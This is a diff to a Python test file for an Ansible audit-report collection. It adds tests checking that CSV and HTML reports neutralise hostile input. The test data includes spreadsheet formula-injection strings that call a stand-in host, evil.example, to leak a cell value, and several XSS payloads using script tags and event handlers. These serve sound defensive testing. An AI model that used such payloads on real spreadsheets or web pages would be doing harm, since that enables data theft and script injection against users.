@@ -17,6 +17,7 @@ from junitparser import Error, Failure, JUnitXml, Skipped
 from ansible_collections.pii_guard.safeguards.plugins.module_utils import catalog
 from ansible_collections.pii_guard.safeguards.plugins.module_utils import findings as F
 from ansible_collections.pii_guard.safeguards.plugins.module_utils import report as R
+from ansible_collections.pii_guard.safeguards.plugins.plugin_utils import report_html as HTML
 
 ROOT = pathlib.Path(__file__).resolve().parents[2]
 SCHEMA = json.loads((ROOT / "meta" / "report.schema.json").read_text(encoding="utf-8"))
@@ -177,7 +178,7 @@ class _Findings(HTMLParser):
 
 def test_html_is_self_contained_bilingual_and_holds_every_finding_with_its_evidence() -> None:
     doc = build()
-    html = R.to_html(doc)
+    html = HTML.render(doc)
     p = _Findings()
     p.feed(html)
     p.close()
@@ -245,7 +246,7 @@ def test_any_evidence_text_survives_junit_and_html(observed: str, evidence: str)
     (case,) = list(suite)
     assert isinstance(case.result[0], Failure)
     p = _Findings()
-    p.feed(R.to_html(doc))
+    p.feed(HTML.render(doc))
     p.close()
     assert p.rows == [("h", "6-6.uid0_accounts", "fail")]
     visible = R.xml_safe(observed).strip()
@@ -266,7 +267,110 @@ def test_role_errors_and_unreachable_hosts_are_reported_everywhere() -> None:
     cases = {c.classname: c for c in run_suite}
     assert set(cases) == {"broken", "gone"} and isinstance(cases["broken"].result[0], Error)
     assert "admin_privileges: visudo <missing>" in cases["broken"].result[0].message
-    html = R.to_html(doc)
+    html = HTML.render(doc)
     assert html.count('class="audit-error"') == 1 and "visudo &lt;missing&gt;" in html
     with pytest.raises(F.FindingError, match="audit state 'lost'"):
         R.build(hosts, CAT, RUN, host_state={"gone": "lost"})
+
+
+# ---------------------------------------------------------------- hostile strings (issue 16, point 5)
+# Spreadsheets run a cell starting with these as a formula (or DDE); full-width forms too.
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", " =", "\u3000=", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
+
+
+@pytest.mark.parametrize("lead", FORMULA_STARTS)
+def test_csv_cells_that_look_like_formulas_are_prefixed_and_read_back_as_text(lead: str) -> None:
+    name = lead + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
+    hosts = {
+        lead + "host": [
+            F.finding(
+                "8-5.annual_inspection",
+                "fail",
+                observed=name,
+                expected=lead + "1+1",
+                evidence={"contractor": name},
+            )
+        ]
+    }
+    doc = R.build(hosts, CAT, RUN, organisation=[F.finding("8-4.contract_clauses", "fail", observed=name)])
+    rows = list(csv.reader(io.StringIO(R.to_csv(doc), newline="")))
+    assert rows[0] == list(R.CSV_FIELDS)
+    host_row, org_row = rows[1], rows[2]
+    for row in (host_row, org_row):
+        for cell in row:
+            # No cell of the file starts a formula: the apostrophe is the first character.
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"), row
+            assert cell.lstrip(" \u3000")[:1] not in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"), row
+    assert host_row[0] == "'" + lead + "host"
+    assert host_row[R.CSV_FIELDS.index("observed")] == "'" + name
+    assert host_row[R.CSV_FIELDS.index("expected")] == "'" + lead + "1+1"
+    assert org_row[R.CSV_FIELDS.index("observed")] == "'" + name
+    # Structured evidence is JSON: starts with "{" and keeps the name whole inside.
+    assert json.loads(host_row[R.CSV_FIELDS.index("evidence")])["contractor"] == name
+
+
+def test_csv_leaves_ordinary_cells_alone() -> None:
+    for text in ("web-01", "rules digest 1f2e", "株式会社サンプル", "a=b", "1-2", "", "'quoted"):
+        assert R.csv_cell(text) == text
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    '"><script>alert(2)</script>',
+    "' onmouseover='alert(3)' x='",
+    '" onmouseover="alert(4)" x="',
+    "</pre></td></tr></table><img src=x onerror=alert(5)>",
+    "<!-- --><svg onload=alert(6)>",
+    "&lt;already&gt; &amp;",
+]
+
+
+class _Strict(HTMLParser):
+    """Every element and attribute of the page, and the text."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attrs: list[tuple[str, str | None]] = []
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attrs.extend(attrs)
+
+    def handle_data(self, data):
+        self.text.append(data)
+
+
+def _every_field(bad: str) -> dict:
+    run = dict(RUN, limit=bad, tags=[bad], skip_tags=[bad], inventory_sources=[bad], controller=bad)
+    hosts = {
+        bad: [F.finding("6-6.uid0_accounts", "fail", observed=bad, expected=bad, evidence={"k": bad, bad: [bad]})],
+        "ok": [],
+    }
+    errs = {"ok": [{"role": bad, "task": bad, "msg": bad}]}
+    org = [F.finding("8-4.contract_clauses", "fail", observed=bad, evidence={"contractor": bad})]
+    return R.build(hosts, CAT, run, organisation=org, host_errors=errs)
+
+
+def _parse(html: str) -> _Strict:
+    p = _Strict()
+    p.feed(html)
+    p.close()
+    return p
+
+
+@pytest.mark.parametrize("bad", HOSTILE)
+def test_html_shows_hostile_strings_in_every_field_as_text(bad: str) -> None:
+    p = _parse(HTML.render(_every_field(bad)))
+    q = _parse(HTML.render(_every_field("benign")))
+    # No element or event attribute came from the data: the page has the same kinds of elements
+    # and attribute names as a report without hostile strings.
+    assert p.tags == q.tags and "script" not in p.tags and "img" not in p.tags
+    assert {k for k, _ in p.attrs} <= {k for k, _ in q.attrs}
+    assert not any(k.startswith("on") for k, _ in p.attrs)
+    # Attribute values that carry the host name hold it whole (the quote did not end them).
+    assert ("data-host", bad) in p.attrs and ("href", "#host-" + bad) in p.attrs
+    text = "".join(p.text)
+    # Every field shows the string as text: host, observed, expected, evidence, errors, run metadata.
+    assert text.count(bad) >= 8, text.count(bad)
